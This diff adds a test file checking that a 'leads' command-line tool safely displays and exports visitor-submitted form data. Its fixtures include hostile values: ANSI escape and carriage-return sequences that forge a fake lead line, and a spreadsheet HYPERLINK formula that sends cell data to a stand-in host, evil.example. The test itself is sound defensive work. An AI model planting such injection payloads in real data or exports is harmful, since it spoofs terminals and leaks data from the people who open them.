@@ -1,0 +1,91 @@
+// @vitest-environment node
+/**
+ * Issue 16 item 3: what visitors wrote must not harm the people who read it. Rows stored before the
+ * database refused control characters (0001 alone) hold ANSI escapes, a carriage return and a formula;
+ * `npm run leads` shows them escaped and `npm run leads -- --csv` neutralises the formula.
+ */
+import { execFile } from 'node:child_process'
+import { copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { promisify } from 'node:util'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { createLocalBackend, DEFAULT_MIGRATIONS_DIR, startBackendServer } from '../../scripts/backend/index.ts'
+import { csvField, printable } from '../../scripts/lib/lead-text.ts'
+import { LOCAL_ANON_KEY } from '../../src/backend/protocol.ts'
+
+const REPO_ROOT = new URL('../../', import.meta.url)
+const run = promisify(execFile)
+const HOSTILE_NAME = '\u001b]0;pwned\u0007\u001b[2KRavi\rFAKE LEAD <boss@example.in>'
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+let dir: string
+let dataDir: string
+
+beforeAll(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'leads-cli-'))
+  dataDir = join(dir, 'pglite')
+  // The database as it was before 0002_abuse_limits.sql: it took any text that had something in it.
+  const firstOnly = join(dir, 'migrations')
+  mkdirSync(firstOnly)
+  copyFileSync(join(DEFAULT_MIGRATIONS_DIR, '0001_leads.sql'), join(firstOnly, '0001_leads.sql'))
+  const old = await createLocalBackend({ dataDir, migrationsDir: firstOnly, handleSignals: false, log: () => {} })
+  const server = await startBackendServer(old)
+  for (const row of [
+    {
+      name: HOSTILE_NAME,
+      email: 'a@example.in',
+      phone: '+91 98110 45670',
+      message: 'line one\r\nline two\u001b[8m hidden',
+      source_page: '/',
+    },
+    { name: FORMULA, email: 'b@example.in', phone: null, message: '@SUM(1+1)', source_page: '/contact' },
+  ]) {
+    const res = await fetch(`${server.url}/rest/v1/lead_submissions`, {
+      method: 'POST',
+      headers: { apikey: LOCAL_ANON_KEY, 'content-type': 'application/json' },
+      body: JSON.stringify(row),
+    })
+    expect(res.status).toBe(201)
+  }
+  await server.close()
+  await old.close()
+  // Today's migrations apply on top: the old rows stay (NOT VALID), and new ones like them are refused.
+  const now = await createLocalBackend({ dataDir, handleSignals: false, log: () => {} })
+  await now.close()
+}, 60_000)
+
+afterAll(() => rmSync(dir, { recursive: true, force: true }))
+
+const leads = (...args: string[]) =>
+  run(process.execPath, ['--import', 'tsx', 'scripts/leads.ts', '--data-dir', dataDir, ...args], { cwd: REPO_ROOT, encoding: 'utf8' })
+
+describe('npm run leads with hostile text', () => {
+  it('prints control characters escaped, so no lead can hide or forge another line', async () => {
+    const { stdout } = await leads()
+    // eslint-disable-next-line no-control-regex
+    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
+    expect(stdout).toContain('\\x1b]0;pwned\\x07\\x1b[2KRavi\\rFAKE LEAD <boss@example.in>')
+    expect(stdout).toContain('line one line two\\x1b[8m hidden')
+    // Every lead starts its own line with a date: the CR did not start a forged one.
+    expect(stdout.split('\n').filter((l) => l.includes('FAKE LEAD'))).toEqual([expect.stringMatching(/^ {2}\d{4}-\d{2}-\d{2} /)])
+  })
+
+  it('--csv gives a spreadsheet text, never a formula', async () => {
+    const { stdout } = await leads('--csv')
+    const lines = stdout.split('\r\n')
+    expect(lines[0]).toBe('created_at,name,email,phone,service,source_page,message')
+    expect(stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
+    expect(stdout).toContain(`'@SUM(1+1)`)
+    expect(stdout).toContain(`'+91 98110 45670`)
+    expect(stdout).not.toMatch(/(^|,)[=+@-]/m)
+    const guides = await leads('--csv', '--table', 'guides')
+    expect(guides.stdout.split('\r\n')[0]).toBe('created_at,name,email,phone,viewed_at,pages_viewed,id')
+  })
+
+  it('the helpers: escapes and fields', () => {
+    expect(printable('a\u202eb\tc')).toBe('a\\u202eb\\tc')
+    expect(csvField('-2+3')).toBe("'-2+3")
+    expect(csvField('plain, with comma')).toBe('"plain, with comma"')
+    expect(csvField(null)).toBe('')
+  })
+})
